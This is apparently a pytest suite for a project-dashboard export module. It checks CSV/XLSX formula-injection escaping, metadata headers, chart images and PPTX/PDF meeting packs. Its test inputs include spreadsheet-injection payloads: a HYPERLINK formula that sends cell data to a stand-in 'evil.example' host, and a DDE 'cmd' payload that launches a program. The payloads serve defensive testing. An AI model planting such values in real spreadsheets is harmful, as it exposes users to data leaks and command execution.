"""Exports (pmo/export/): formula injection neutralised, CSV/XLSX state the filters, as-of date and
data version, chart images carry their titles, and the meeting pack (PPTX + PDF) holds the
expected slides, including the sample's red projects recorded from the real Portfolio health page."""

from __future__ import annotations

import html
import io
import re
from datetime import UTC, date, datetime

import altair as alt
import openpyxl
import polars as pl
import pytest
from conftest import ROOT
from helpers.slides import slide_texts
from pptx import Presentation
from pptx.util import Pt

from pmo import export

META = export.Meta(page="Portfolio health", filters="Portfolio: Digital Channels · EAC method: BAC ÷ CPI",
                   as_of=date(2026, 11, 20), version=7, link="http://pmo.example.com/Portfolio_Health?portfolio=Digital+Channels",
                   user="ana@example.com", title="Red projects",
                   exported_at=datetime(2026, 11, 25, 9, 14, tzinfo=UTC))

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(A1:A9)", "-2+3", "@cmd", "\tTab first",
           "\rCR first", "safe-text", "a=b"]


def frame() -> pl.DataFrame:
    return pl.DataFrame({
        "project_id": HOSTILE,
        "budget": [-1250.5, 3_400_000.0, 0.0, -1.0, 2.5, None, 10.0, 99.0],
        "variance_pct": [-0.125, 0.5, 0.0, 1.0, None, 0.25, 0.1, 0.0],
        "cpi": [0.91, 1.0, 0.5, None, 1.2, 0.8, 0.95, 1.05],
        "status_date": [date(2026, 11, 20)] * 7 + [None],
        "health_history": [["green", "red"], [], None, ["amber"], ["red"], ["grey"], ["green"], ["green"]],
    })


# ---------------------------------------------------------------------------------------------
# neutralise
# ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE[:6])
def test_text_starting_with_a_formula_character_is_escaped(text):
    assert export.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["safe-text", "a=b", "", "Project -1", " =not first", "'=already quoted"])
def test_other_text_is_unchanged(value):
    assert export.neutralise(value) == value


@pytest.mark.parametrize("value", [-1250.5, -3, 0, 7.25, None, date(2026, 11, 20), True])
def test_numbers_dates_and_missing_values_are_not_touched(value):
    assert export.neutralise(value) == value


def test_a_negative_number_stays_a_number_but_the_text_minus_five_is_escaped():
    assert export.neutralise(-5) == -5
    assert export.neutralise("-5") == "'-5"


def test_frame_neutralisation_matches_the_scalar_rule_and_leaves_numbers_alone():
    df = pl.DataFrame({"text": HOSTILE + [None], "amount": [-1.5] * 8 + [None]})
    out = export.neutralise_frame(df)
    assert out["text"].to_list() == [export.neutralise(v) for v in HOSTILE] + [None]
    assert out["amount"].to_list() == df["amount"].to_list()
    assert out.schema == df.schema


# ---------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------
def test_csv_states_page_filters_as_of_version_and_link_before_the_table():
    raw = export.to_csv_bytes(frame(), META, labels={"project_id": "Project"})
    assert raw.startswith("\ufeff".encode())            # Excel reads UTF-8 (÷, ·, €) correctly
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[:7] == [
        "# Page,Portfolio health: Red projects",
        "# Filters,Portfolio: Digital Channels · EAC method: BAC ÷ CPI",
        "# As of,20 Nov 2026",
        "# Data version,store version 7",
        "# Exported,2026-11-25 09:14 UTC by ana@example.com",
        "# Rows,8",
        "# Link,http://pmo.example.com/Portfolio_Health?portfolio=Digital+Channels",
    ]
    assert lines[7] == "Project,Budget (ledger lines),Variance %,CPI,Status date,Trend (oldest → latest)"   # labels from metrics/


def test_csv_escapes_formulas_and_keeps_numbers_and_reads_back_with_a_comment_prefix():
    raw = export.to_csv_bytes(frame(), META)
    back = pl.read_csv(io.BytesIO(raw), comment_prefix="#", try_parse_dates=True)
    assert back.columns[0] == "Project"
    assert back["Project"].to_list() == ["'" + v for v in HOSTILE[:6]] + ["safe-text", "a=b"]
    assert back.schema["Budget (ledger lines)"] == pl.Float64
    assert back["Budget (ledger lines)"].to_list() == [-1250.5, 3_400_000.0, 0.0, -1.0, 2.5, None, 10.0, 99.0]
    assert back["Variance %"][0] == -0.125
    assert back["Status date"][0] == date(2026, 11, 20)
    assert back["Trend (oldest → latest)"].to_list()[:2] == ['["green","red"]', "[]"]   # lists as JSON text
    # no unescaped cell starts with a formula character anywhere in the file
    for line in raw.decode("utf-8-sig").splitlines()[8:]:
        first_cell = line.split(",")[0].strip('"')
        assert not first_cell.startswith(("=", "+", "@")), line


def test_a_metadata_value_starting_with_a_formula_character_is_escaped_too():
    meta = export.Meta(page="=cmd|' /C calc'!A0", filters="@SUM(1)", as_of=None, version=None)
    lines = export.to_csv_bytes(pl.DataFrame({"a": [1]}), meta).decode("utf-8-sig").splitlines()
    assert lines[0] == "# Page,'=cmd|' /C calc'!A0"
    assert lines[1] == "# Filters,'@SUM(1)"
    assert lines[2] == "# As of,latest data"
    assert lines[3] == "# Data version,store version unknown"


# ---------------------------------------------------------------------------------------------
# XLSX
# ---------------------------------------------------------------------------------------------
def open_xlsx(raw: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    return wb, wb.active


def test_xlsx_header_block_states_filters_as_of_and_version():
    _, ws = open_xlsx(export.to_xlsx_bytes(frame(), META, sheet="Red projects", labels={"project_id": "Project"}))
    assert ws.title == "Red projects"
    assert ws["A1"].value == "Portfolio health: Red projects"
    block = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(2, 9)}
    assert block == {"Filters": "Portfolio: Digital Channels · EAC method: BAC ÷ CPI", "As of": "20 Nov 2026",
                     "Data version": "store version 7", "Exported": "2026-11-25 09:14 UTC by ana@example.com",
                     "Rows": "8", "Link": META.link, None: None}
    assert [ws.cell(9, c).value for c in range(1, 7)] == [
        "Project", "Budget (ledger lines)", "Variance %", "CPI", "Status date", "Trend (oldest → latest)"]
    assert ws.freeze_panes == "A10"
    assert ws.auto_filter.ref == "A9:F17"


def test_xlsx_escapes_formula_text_keeps_numbers_and_formats_them_by_column_name():
    raw = export.to_xlsx_bytes(frame(), META)
    _, ws = open_xlsx(raw)
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    assert b"<f>" not in raw.replace(b"<fonts", b"").replace(b"<fills", b"")  # no formula element in any sheet
    # (xlsx stores a carriage return as _x000D_, which Excel shows as the character)
    ids = [ws.cell(r, 1).value.replace("_x000D_", "\r") for r in range(10, 18)]
    assert ids == [export.neutralise(v) for v in HOSTILE]
    assert all(ws.cell(r, 1).data_type == "s" for r in range(10, 18))
    budget = ws.cell(10, 2)
    assert budget.value == -1250.5 and budget.data_type == "n"
    assert budget.number_format == '"$"#,##0;-"$"#,##0'
    assert ws.cell(10, 3).value == -0.125 and ws.cell(10, 3).number_format == "0.0%"
    assert ws.cell(10, 4).value == 0.91 and ws.cell(10, 4).number_format == "0.00"
    assert ws.cell(10, 5).value == datetime(2026, 11, 20) and ws.cell(10, 5).number_format == "d mmm yyyy"
    assert ws.cell(15, 2).value is None              # a missing number stays blank, not 0
    assert ws.cell(10, 6).value == '["green","red"]'


def test_xlsx_money_in_another_reporting_currency():
    meta = export.Meta(page="Budget variance", currency="EUR")
    _, ws = open_xlsx(export.to_xlsx_bytes(pl.DataFrame({"fac": [1.0]}), meta))
    assert ws.cell(ws.max_row, 1).number_format == '"€"#,##0;-"€"#,##0'
    assert export.money_format("CHF") == '#,##0 "CHF";-#,##0 "CHF"'


def test_file_names_say_page_table_and_as_of():
    assert export.file_name(META, "Red projects", "csv") == "portfolio-health_red-projects_2026-11-20.csv"
    assert export.file_name(export.Meta(page="Budget variance", exported_at=datetime(2026, 11, 25)),
                            "By month", "xlsx") == "budget-variance_by-month_2026-11-25.xlsx"


# ---------------------------------------------------------------------------------------------
# Charts
# ---------------------------------------------------------------------------------------------
def rag_chart() -> alt.Chart:
    from pmo.charts import health as charts

    projects = pl.DataFrame({"portfolio": ["Digital Channels", "Digital Channels", "People & Workplace"],
                             "overall_health": ["red", "green", "amber"], "health_rank": [3, 1, 2]})
    return charts.rag_by_portfolio(projects)


SUB = ["Portfolio: Digital Channels · EAC method: BAC ÷ CPI", "As of 20 Nov 2026 · store version 7"]


def svg_texts(svg: bytes) -> str:
    """The text the SVG draws (<text> elements, multi-line ones as <tspan>s)."""
    texts = re.findall(r"<text[^>]*>(.*?)</text>", svg.decode(), re.DOTALL)
    return html.unescape(" ".join(re.sub(r"<[^>]+>", " ", t) for t in texts))


def test_svg_carries_title_own_subtitle_filters_and_as_of():
    text = svg_texts(export.chart_svg(rag_chart(), subtitle=SUB))
    for expected in ("Computed health by portfolio", "Active projects, coloured by the worst dimension",
                     SUB[0], SUB[1], "Digital Channels", "People & Workplace"):
        assert expected in text, expected


def test_svg_title_can_be_replaced():
    text = svg_texts(export.chart_svg(rag_chart(), title="RAG per portfolio", subtitle=SUB[1]))
    assert "RAG per portfolio" in text and "Computed health by portfolio" not in text


def test_png_is_a_png_at_twice_the_export_width_with_the_title_block_drawn():
    png = export.chart_png(rag_chart(), subtitle=SUB)
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    w, h = export.png_size(png)
    assert w >= 2 * export.EXPORT_WIDTH
    # the three title lines (title, own subtitle, filters, as-of) make the picture taller than
    # the same chart without its title block
    w0, h0 = export.png_size(export.chart_png(rag_chart(), with_title=False))
    assert w0 == w and h > h0 + 2 * 50


def test_a_chart_over_altairs_5000_row_limit_still_exports():
    df = pl.DataFrame({"x": list(range(6000)), "y": [i % 7 for i in range(6000)]})
    chart = alt.Chart(df, title="Six thousand points").mark_point().encode(x="x:Q", y="y:Q")
    assert "Six thousand points" in svg_texts(export.chart_svg(chart))


def test_exported_spec_uses_our_categorical_colours_and_a_fixed_width():
    spec = export.chart_spec(alt.Chart(pl.DataFrame({"a": ["x"], "b": [1]})).mark_bar().encode(x="a", y="b"))
    assert spec["config"]["range"]["category"][0] == "#1f4e79"
    assert spec["width"] == export.EXPORT_WIDTH and spec["background"] == "white"


# ---------------------------------------------------------------------------------------------
# Meeting pack
# ---------------------------------------------------------------------------------------------
def slide_title(slide) -> str:
    return next(s.text_frame.text for s in slide.shapes if s.name == "Title")


def slide_text(slide) -> str:
    return "\n".join(slide_texts(slide))


def pdf_pages(raw: bytes) -> int:
    """Page count from the PDF's page objects (and pypdf, when installed, must agree)."""
    count = len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", raw))
    try:
        from pypdf import PdfReader
    except ImportError:
        return count
    assert len(PdfReader(io.BytesIO(raw)).pages) == count
    return count


def hand_pack(rows: int = 25) -> export.Pack:
    pack = export.Pack(META)
    pack.new_kpi_row("Status at a glance")
    for label, value in (("Active projects", "35"), ("Red · 23%", "8"), ("Amber · 23%", "8")):
        pack.kpi(label, value, "no change", f"What {label} means.")
    pack.new_kpi_row("Nine figures")
    for i in range(9):
        pack.kpi(f"Figure {i + 1}", f"${i + 1}.00M")
    pack.charts.append(rag_chart())
    pack.tables.append(export.PackTable(
        "Red projects and why", pl.DataFrame({"project_id": [f"PRJ-{1001 + i}" for i in range(rows)],
                                              "reason": [f"Cost red: CPI 0.{80 + i % 10}" for i in range(rows)]}),
        labels={"project_id": "Project", "reason": "Why"}))
    return pack


def test_pack_slides_in_order_with_kpis_split_at_eight_and_the_table_paginated():
    pack = hand_pack()
    prs = Presentation(io.BytesIO(export.pack_pptx(pack)))
    # one-line rows are 0.403 in (14 pt × 1.25 + 0.16 in padding); 4.90 in below the header
    # holds 12 of them, so 25 rows take 12 + 12 + 1
    assert [slide_title(s) for s in prs.slides] == [
        "Portfolio health", "Status at a glance", "Nine figures (1 of 2)", "Nine figures (2 of 2)",
        "Computed health by portfolio", "Red projects and why (1 of 3)", "Red projects and why (2 of 3)",
        "Red projects and why (3 of 3)"]
    assert abs(prs.slide_width / prs.slide_height - 16 / 9) < 0.001
    title = slide_text(prs.slides[0])
    for expected in (META.filters, "20 Nov 2026", "store version 7", META.link, "ana@example.com"):
        assert expected in title, expected
    kpis = slide_text(prs.slides[1])
    assert all(v in kpis for v in ("Active projects", "35", "Red · 23%", "8", "no change"))
    assert prs.slides[1].notes_slide.notes_text_frame.text.startswith("Active projects: What Active projects means.")
    assert "Figure 9" in slide_text(prs.slides[3]) and "Figure 9" not in slide_text(prs.slides[2])
    assert any(s.shape_type == 13 for s in prs.slides[4].shapes)          # the chart picture
    listed = [c.text for s in list(prs.slides)[5:] for shape in s.shapes if shape.has_table
              for row in list(shape.table.rows)[1:] for c in list(row.cells)[:1]]
    assert listed == [f"PRJ-{1001 + i}" for i in range(25)]
    assert [len(list(shape.table.rows)) - 1 for s in list(prs.slides)[5:] for shape in s.shapes
            if shape.has_table] == [12, 12, 1]


def test_a_long_table_stops_after_ten_slides_and_says_how_many_rows_are_left_out():
    pack = hand_pack(130)       # 12 rows a slide: 10 slides hold 120
    prs = Presentation(io.BytesIO(export.pack_pptx(pack)))
    titles = [slide_title(s) for s in prs.slides]
    assert titles[5:] == [f"Red projects and why ({i} of 10)" for i in range(1, 11)] + ["Red projects and why: 10 more"]
    last = slide_text(prs.slides[-1])
    assert "10 more rows are not in this pack (130 in all)" in last and "CSV or Excel download" in last


def test_pack_type_is_readable():
    prs = Presentation(io.BytesIO(export.pack_pptx(hand_pack(3))))
    table_runs = [r for s in prs.slides for sh in s.shapes if sh.has_table for row in sh.table.rows
                  for c in row.cells for p in c.text_frame.paragraphs for r in p.runs]
    assert table_runs and min(r.font.size for r in table_runs) >= Pt(14)
    kpi_values = [r for sh in prs.slides[1].shapes if sh.has_text_frame for p in sh.text_frame.paragraphs
                  for r in p.runs if r.text in ("35", "8")]
    assert kpi_values and min(r.font.size for r in kpi_values) >= Pt(36)
    titles = [r for s in prs.slides for sh in s.shapes if sh.name == "Title" for p in sh.text_frame.paragraphs
              for r in p.runs]
    assert min(r.font.size for r in titles) >= Pt(20)


def test_pdf_has_the_same_pages_as_the_deck():
    pack = hand_pack()
    pptx, pdf = export.meeting_pack(pack)
    assert pdf.startswith(b"%PDF-")
    assert pdf_pages(pdf) == len(Presentation(io.BytesIO(pptx)).slides) == 8
    try:
        from pypdf import PdfReader
    except ImportError:
        return
    pages = PdfReader(io.BytesIO(pdf)).pages
    assert "Portfolio health" in pages[0].extract_text()
    assert "Red projects and why (3 of 3)" in pages[7].extract_text()
    assert "PRJ-1025" in pages[7].extract_text()
    w, h = pages[0].mediabox.width, pages[0].mediabox.height
    assert abs(float(w) / float(h) - 16 / 9) < 0.001


def test_an_empty_red_list_says_so_on_its_slide():
    pack = export.Pack(META)
    pack.tables.append(export.PackTable("Red projects and why", pl.DataFrame({"project_id": []}, schema={"project_id": pl.String}),
                                        empty="No active project is red."))
    prs = Presentation(io.BytesIO(export.pack_pptx(pack)))
    assert [slide_title(s) for s in prs.slides] == ["Portfolio health", "Red projects and why"]
    assert "No active project is red." in slide_text(prs.slides[1])


# ---------------------------------------------------------------------------------------------
# The meeting pack of the real Portfolio health page on the sample store
# ---------------------------------------------------------------------------------------------
SAMPLE_RED = ["PRJ-1002", "PRJ-1004", "PRJ-1012", "PRJ-1019", "PRJ-1023", "PRJ-1029", "PRJ-1034", "PRJ-1036"]


@pytest.mark.app
def test_portfolio_health_pack_lists_the_samples_red_projects(sample_store_dir, sample_con, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from pmo import query

    monkeypatch.setenv("PMO_DATA_DIR", str(sample_store_dir))
    monkeypatch.chdir(ROOT)
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
    at.switch_page("pages/1_Portfolio_Health.py").run()
    assert not at.exception, [e.value for e in at.exception]
    pack = at.session_state["_share_view"].pack
    pack.meta = at.session_state["_share_view"].meta()

    every = {"portfolio": None, "program": None, "department": None, "manager": None, "stage": None}
    projects = query.run(sample_con, "portfolio_health_projects", **every, as_of=None, eac_method=None)
    red = projects.filter(pl.col("is_active") & (pl.col("overall_health") == "red"))["project_id"].to_list()
    assert red == SAMPLE_RED             # the sample story: eight red projects at 20 Nov 2026

    pptx, pdf = export.meeting_pack(pack)
    prs = Presentation(io.BytesIO(pptx))
    titles = [slide_title(s) for s in prs.slides]
    assert titles[:3] == ["Portfolio health", "Status at a glance", "Budget and earned value"]
    # the 38 projects' health history takes three slides (13 + 13 + 12 rows), the 27 projects with
    # a milestone in the timeline's window two (14 + 13)
    assert titles[3:12] == ["Computed health by portfolio", "Cost vs schedule performance (CPI × SPI)",
                            "Health over time", "Schedule slip by project", "Health history per project (1 of 3)",
                            "Health history per project (2 of 3)", "Health history per project (3 of 3)",
                            "Milestone timeline (1 of 2)", "Milestone timeline (2 of 2)"]
    assert all(t.startswith("Red projects and why") for t in titles[12:]) and titles[12:]
    kpis = slide_text(prs.slides[1])
    assert "Active projects" in kpis and "Red (computed)" in kpis
    listed = [c.text for s in list(prs.slides)[12:] for shape in s.shapes if shape.has_table
              for row in list(shape.table.rows)[1:] for c in list(row.cells)[:1]]
    assert listed == SAMPLE_RED
    assert "Meeting pack · as of 20 Nov 2026" in slide_text(prs.slides[0])
    assert pdf_pages(pdf) == len(titles)
